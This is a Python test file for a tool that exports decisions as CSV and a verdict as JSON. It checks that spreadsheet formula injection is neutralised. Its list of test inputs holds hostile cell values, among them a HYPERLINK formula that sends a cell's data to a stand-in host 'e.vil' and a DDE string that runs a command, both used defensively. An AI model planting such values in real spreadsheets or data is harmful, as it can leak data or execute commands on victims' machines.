"""What programs and spreadsheets take away: the verdict as JSON and the decisions as CSV."""

import csv
import json
import re
from collections.abc import Callable
from dataclasses import replace
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator

from catalog.words import LANGUAGES, Language, Text
from records.data import recommendation, to_json
from records.formats import FORMATS
from records.formats.decisions_csv import COLUMNS, safe
from records.markdown import plain
from records.model import Export
from rules.disagreement import Disagreement, Side

MakeExport = Callable[..., Export]
EVERY_LANGUAGE = pytest.mark.parametrize("language", LANGUAGES)
SCHEMA = Path(__file__).resolve().parents[2] / "docs" / "schemas" / "recommend.json"
FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201",
    '=HYPERLINK("http://e.vil/?"&A1,"click")', "=cmd|' /C calc'!A0", "a;=1+1", "a; @b", '"=1', "'=1", "\u200d=1",
    "\u202e=1", '","=1', "x" * 32_766 + "=1+1",
]  # fmt: skip


def _table(export: Export) -> list[dict[str, str]]:
    content = FORMATS["decisions_csv"].write(export)["decisions.csv"]
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def _is_formula(cell: str) -> bool:
    """Whether some spreadsheet calculates the cell, split at commas or at semicolons."""
    return any(re.match(r"[\s\u200c\u200d\"]*[=+\-@\uff1d\uff0b\uff0d\uff20]", part) for part in cell.split(";"))


def _verdict(export: Export) -> Any:
    return json.loads(FORMATS["verdict_json"].write(export)["verdict.json"])


@EVERY_LANGUAGE
def test_golden_csv(make_export: MakeExport, golden: Callable[[str, str | bytes], None], language: Language) -> None:
    """The table of the small stack is the one that was read and agreed on."""
    content = FORMATS["decisions_csv"].write(make_export(language))["decisions.csv"]
    golden(f"records/{language}/decisions.csv", content)


@EVERY_LANGUAGE
def test_a_row_for_every_decision_in_scope(make_export: MakeExport, language: Language) -> None:
    """Also for those that are not needed, which have no number; what people decided shows the advice beside it."""
    rows = _table(make_export(language))
    by_id = {row[COLUMNS[1].of(language)]: list(row.values()) for row in rows}
    assert ["tracing", "trace_transport", "kafka_hosting", "database", "event_payload"] == list(by_id)
    assert ["1", "3", "4", "2", ""] == [row[0] for row in by_id.values()]
    advised = [row[12] for row in by_id.values()]
    assert ["", "", "", {"ko": "직접 운영", "en": "Self-managed"}[language], ""] == advised


@pytest.mark.parametrize("text", FORMULAS)
def test_what_people_type_is_no_formula(make_export: MakeExport, text: str) -> None:
    """No cell begins with a sign that starts a formula, at a comma or at a semicolon, and none spills over."""
    export = make_export(pin_because=text, reconsider={"trace_transport": text})
    database = replace(export.verdict.decisions[3], title=Text(text, text))
    decisions = (*export.verdict.decisions[:3], database, export.verdict.decisions[4])
    rows = _table(replace(export, verdict=replace(export.verdict, decisions=decisions)))
    assert 5 == len(rows)
    for cell in (cell for row in rows for cell in row.values()):
        assert len(cell) <= 32_767
        assert re.fullmatch(r"-?\d+(\.\d+)?", cell) or not _is_formula(cell)


@given(st.text(st.sampled_from("=+-@;'\" \t\r\na1\u200d\u202e\uff1d"), max_size=12))
def test_a_safe_cell_says_what_was_typed(text: str) -> None:
    """Only apostrophes are put in, and no part of the cell starts a formula."""
    kept = safe(text)
    assert plain(text).replace("'", "") == kept.replace("'", "")
    assert not _is_formula(kept)


@EVERY_LANGUAGE
def test_the_json_is_what_the_terminal_prints(make_export: MakeExport, language: Language) -> None:
    """One shape, one schema: whatever the language, the file is `recommend --json`."""
    export = make_export(language)
    written = FORMATS["verdict_json"].write(export)["verdict.json"]
    assert to_json(recommendation(export.catalog, export.verdict, export.outlook)).encode() == written
    Draft202012Validator(json.loads(SCHEMA.read_text("utf-8"))).validate(json.loads(written))


@given(st.text() | st.text(st.characters(categories=["Cs", "Cf", "Cc"])))
def test_free_text_comes_back_as_typed(make_export: MakeExport, text: str) -> None:
    """A reason and a name survive JSON sign for sign, lone surrogates among them."""
    export = make_export(pin_because=text)
    side = Side((text,), Text("1", "1"), {})
    differ = Disagreement("audit", Text("", ""), 0.0, (), (side,))
    read = _verdict(replace(export, verdict=replace(export.verdict, disagreements=(differ,))))
    assert text == read["verdict"]["decisions"][3]["pin_because"]
    assert [text] == read["verdict"]["disagreements"][0]["sides"][0]["people"]
